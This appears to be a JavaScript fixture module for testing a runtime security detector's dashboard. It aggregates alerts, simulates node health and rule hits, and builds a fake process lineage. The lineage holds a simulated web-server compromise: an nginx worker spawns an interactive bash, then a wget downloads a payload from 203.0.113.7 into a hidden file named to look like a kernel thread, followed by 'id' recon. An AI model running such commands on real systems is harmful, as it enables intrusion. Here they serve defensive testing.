// Aggregates, nodes, rules and lineage of the detector for tests.

const group = (alerts, key, make) => {
  const found = new Map();
  for (const alert of alerts) {
    const name = key(alert);
    if (!found.has(name)) found.set(name, { ...make(alert), count: 0 });
    found.get(name).count += 1;
  }
  return [...found.values()].sort((a, b) => b.count - a.count);
};

/** As the detector names it. */
export const workloadOf = ({ pod, unit, node }) => (pod.name ? `${pod.namespace}/${pod.name}` : unit ? `${node}:${unit}` : node);

export function stats(alerts, query) {
  const bucket = Number(query.get("bucket") ?? 60_000);
  const at = (alert) => Math.floor(Date.parse(alert.timestamp) / bucket) * bucket;
  const by_severity = {};
  const buckets = new Map();
  const heatmap = new Map();
  for (const alert of alerts) {
    by_severity[alert.severity] = (by_severity[alert.severity] ?? 0) + 1;
    const t = at(alert);
    const one = buckets.get(t) ?? { t, count: 0, by_severity: {} };
    one.count += 1;
    one.by_severity[alert.severity] = (one.by_severity[alert.severity] ?? 0) + 1;
    buckets.set(t, one);
    const workload = workloadOf(alert);
    const cell = heatmap.get(`${workload} ${t}`) ?? { workload, t, count: 0 };
    cell.count += 1;
    heatmap.set(`${workload} ${t}`, cell);
  }
  return {
    total: alerts.length,
    by_severity,
    by_rule: group(alerts, (one) => one.rule_id, ({ rule_id, rule, severity }) => ({ rule_id, rule, severity })),
    by_node: group(alerts, (one) => one.node, ({ node }) => ({ node })),
    by_pod: group(
      alerts.filter((one) => one.pod.name),
      (one) => one.pod.name,
      ({ pod }) => ({ pod: pod.name, namespace: pod.namespace }),
    ),
    buckets: [...buckets.values()].sort((a, b) => a.t - b.t),
    heatmap: [...heatmap.values()],
  };
}

const started = Date.now() - 3 * 86_400_000;

/** What the workloads of a node used in the last five seconds; it swings like real ones. */
function use(at) {
  const report = Math.floor(Date.now() / 5000);
  const swing = 1 + 0.5 * Math.sin(report * 1.7 + at) + 0.3 * Math.sin(report * 0.6);
  const one = (path, name, cpu_ms, received, sent) => ({
    path, name, container_id: "", cpu_ns: Math.round(cpu_ms * 1e6 * swing), received_bytes: Math.round(received * swing), sent_bytes: Math.round(sent * swing),
  });
  return [
    one("/", "", 4100 * (at + 1), 4_400_000, 1_310_000),
    one("/kubepods.slice/kubepods-pod1.slice", "shop/checkout-7d9f8-x2x4p", 2812 * (at + 1), 3_400_000, 910_000),
    one("/kubepods.slice/kubepods-pod2.slice", "shop/payments-5c6b4-9wqzl", 696, 820_000, 344_000),
    one("/system.slice/postgresql.service", "postgresql.service", 240, 0, 0),
    one("/system.slice/ssh.service", "ssh.service", 4, 0, 0),
  ];
}

export function nodes(detector) {
  const seconds = (Date.now() - started) / 1000;
  const names = detector.node ? [detector.node] : ["node-a", "node-b", "node-c"];
  const hits = group(detector.alerts, (one) => one.rule_id, ({ rule_id, rule, timestamp }) => ({ rule_id, rule, timestamp }));
  return {
    nodes: names.map((node, at) => ({
      node,
      version: "0.1.0",
      kernel: ["6.18.44", "6.12.117", "5.10.262"][at],
      last_seen_ms: at === 2 ? Date.now() - 380_000 : Date.now() - 900,
      started_ms: started,
      connected: at !== 2,
      counters: {
        'sentinel_events_produced_total{kind="exec"}': Math.round(seconds * 40 * (at + 1)),
        'sentinel_events_produced_total{kind="file_read"}': Math.round(seconds * 900 * (at + 1)),
        'sentinel_events_delivered_total{kind="exec"}': Math.round(seconds * 40 * (at + 1)),
        'sentinel_events_lost_total{stage="ring",cause="full",kind="file_read"}': at === 1 ? 18_231 : 0,
        'sentinel_events_lost_total{stage="queue",cause="full",kind="exec"}': at === 1 ? Math.round(seconds) % 1000 : 0,
      },
      hooks: [
        { name: "tp_btf/sched_process_exec", healthy: true, reason: "" },
        { name: "tracepoint/syscalls/sys_exit_openat", healthy: true, reason: "" },
        { name: "lsm/file_open", healthy: at === 0, reason: at === 0 ? "" : "the kernel refuses BPF LSM: add bpf to lsm= on its command line" },
      ],
      rules: {
        generation: at === 1 ? 4 : 5,
        hash: at === 1 ? "9f2c41d0aa17" : "c01dfa3e77b2",
        hits: hits.map(({ rule_id, rule, count, timestamp }) => ({
          rule_id, rule, hits: count, suppressed: rule_id.length % 4, last_ms: Date.parse(timestamp),
        })),
      },
      cgroups: at === 2 ? [] : use(at),
      cgroups_ms: at === 2 ? 0 : 5003,
      cpus: 4 * (at + 1),
    })),
    detector: { version: "0.1.0", alerts: detector.alerts.length },
  };
}

export function rules(detector) {
  const found = new Map();
  for (const { node, rules } of nodes(detector).nodes) {
    for (const { rule_id, rule, ...hits } of rules.hits) {
      const one = found.get(rule_id) ?? { rule_id, rule, hits: 0, suppressed: 0, last_ms: 0, condition: `(evt.type = connect and proc.name in (${rule_id}))`, events: "connect", loaded: [] };
      one.hits += hits.hits;
      one.suppressed += hits.suppressed;
      one.last_ms = Math.max(one.last_ms, hits.last_ms);
      one.loaded.push({ node, generation: rules.generation, hash: rules.hash, ...hits });
      found.set(rule_id, one);
    }
  }
  return { rules: [...found.values()] };
}

export function lineage(alert) {
  const { PID: pid, PPID: parent, Comm: name } = alert.event;
  const base = Date.parse(alert.timestamp);
  const ns = (ms) => (base - ms) * 1e6;
  return {
    alert,
    processes: [
      { pid: 1, ppid: 0, name: "tini", exe: "/sbin/tini", cmdline: "tini -- /entrypoint.sh", start_ns: ns(8_000_000), self: false },
      { pid: parent, ppid: 1, name: "nginx", exe: "/usr/sbin/nginx", cmdline: "nginx: worker process", start_ns: ns(7_900_000), self: false },
      { pid, ppid: parent, name, exe: "/usr/bin/bash", cmdline: `${name} -i`, start_ns: ns(2_400), self: true },
      { pid: pid + 1, ppid: parent, name: "wget", exe: "/usr/bin/wget", cmdline: "wget -q 203.0.113.7/x -O /tmp/.x/kworker", start_ns: ns(5_200), self: false },
      { pid: pid + 3, ppid: pid, name: "id", exe: "/usr/bin/id", cmdline: "id", start_ns: ns(-900), self: false },
    ],
    touched: [
      { ts_ms: base - 5_100, event_type: "connect", pid: pid + 1, what: "203.0.113.7:80" },
      { ts_ms: base - 4_800, event_type: "file_write", pid: pid + 1, what: "/tmp/.x/kworker" },
      { ts_ms: base, event_type: alert.event.EventType, pid, what: alert.addr || alert.event.Filename || "sshd[812]" },
      { ts_ms: base + 900, event_type: "exec", pid: pid + 3, what: "/usr/bin/id" },
    ],
  };
}
